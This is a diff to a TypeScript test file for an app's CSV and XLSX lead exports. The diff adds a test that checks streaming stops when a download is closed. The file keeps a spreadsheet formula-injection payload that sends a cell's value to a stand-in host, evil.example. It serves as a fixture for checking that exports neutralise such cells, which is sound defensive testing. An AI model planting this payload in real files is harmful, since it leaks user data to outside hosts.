@@ -4,13 +4,15 @@ import { join } from 'node:path';
 import { sql } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
 import Papa from 'papaparse';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { type Session, type TestApp, testApp } from '../../../test/app.js';
 import { DB_KINDS } from '../../../test/db.js';
 import { type Client, client, expectProblem, walk } from '../../../test/helpers.js';
 import { targetFields } from '../imports/import-fields.js';
 import type { ImportEntity } from '../imports/imports.schemas.js';
 import { systemCtx } from '../shared/context.js';
+import { openExport } from './export.service.js';
+import { EXPORT_DEFS } from './export-resources.js';
 import { restoreCell } from './spreadsheet-safety.js';
 
 const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
@@ -50,6 +52,7 @@ describe.each(DB_KINDS)('exports on %s', (kind) => {
   let c: Client;
   let evilId: string;
   let dir: string;
+  let bulk: Session;
   const exp = (url: string) => t.app.inject({ method: 'GET', url, headers: s.auth });
 
   beforeAll(async () => {
@@ -256,7 +259,7 @@ describe.each(DB_KINDS)('exports on %s', (kind) => {
   });
 
   it('streams a 20,000-lead export page by page (20,001 lines)', async () => {
-    const bulk = await t.signup('Bulk');
+    bulk = await t.signup('Bulk');
     const [stage] = (
       (await t.handle.db.execute(
         sql`select pipeline_id, id from stages where workspace_id = ${bulk.workspaceId} order by position limit 1`,
@@ -295,5 +298,38 @@ describe.each(DB_KINDS)('exports on %s', (kind) => {
     expect(lines).toBe(20_001);
     expect(neutralized).toBe(20_000);
     expect(chunks).toBeGreaterThan(1);
+  });
+
+  it('reads at most a page or two ahead of a slow reader, and stops when the reader goes away', async () => {
+    const calls = vi.spyOn(EXPORT_DEFS.leads, 'list');
+    try {
+      for (const format of ['csv', 'xlsx'] as const) {
+        calls.mockClear();
+        const ex = await openExport(t.handle.db, systemCtx(bulk.workspaceId), {
+          resource: 'leads',
+          format,
+          query: { sort: '-createdAt', deleted: 'exclude' },
+        });
+        const reader = ex.stream[Symbol.asyncIterator]();
+        await reader.next();
+        await new Promise((ok) => setTimeout(ok, 300));
+        expect(calls.mock.calls.length, format).toBeLessThanOrEqual(3);
+        if (format === 'xlsx') {
+          // The reader goes away (a closed download): no more pages are read.
+          ex.stream.destroy();
+          const seen = calls.mock.calls.length;
+          await new Promise((ok) => setTimeout(ok, 300));
+          expect(calls.mock.calls.length).toBe(seen);
+          continue;
+        }
+        let bytes = 0;
+        for (let r = await reader.next(); !r.done; r = await reader.next()) bytes += r.value.length;
+        expect(bytes).toBeGreaterThan(0);
+        expect(ex.rows()).toBe(20_000);
+        expect(calls.mock.calls.length).toBe(20);
+      }
+    } finally {
+      calls.mockRestore();
+    }
   });
 });
